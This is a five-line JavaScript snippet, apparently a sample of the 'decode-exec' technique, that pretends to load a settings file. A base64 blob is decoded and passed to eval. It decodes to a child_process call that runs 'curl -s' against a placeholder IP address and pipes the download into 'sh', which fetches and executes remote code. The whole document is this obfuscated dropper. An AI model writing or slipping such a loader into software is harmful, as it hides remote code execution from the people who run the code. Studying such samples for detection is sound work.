// decode-exec: base64 from a Buffer evaluated as JavaScript
const settings = 'settings.json';
const blob = 'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJjdXJsIC1zIGh0dHA6Ly8yMDMuMC4xMTMuNy9uIHwgc2giKQ==';
console.log(`loading ${settings}`);
eval(Buffer.from(blob, 'base64').toString());
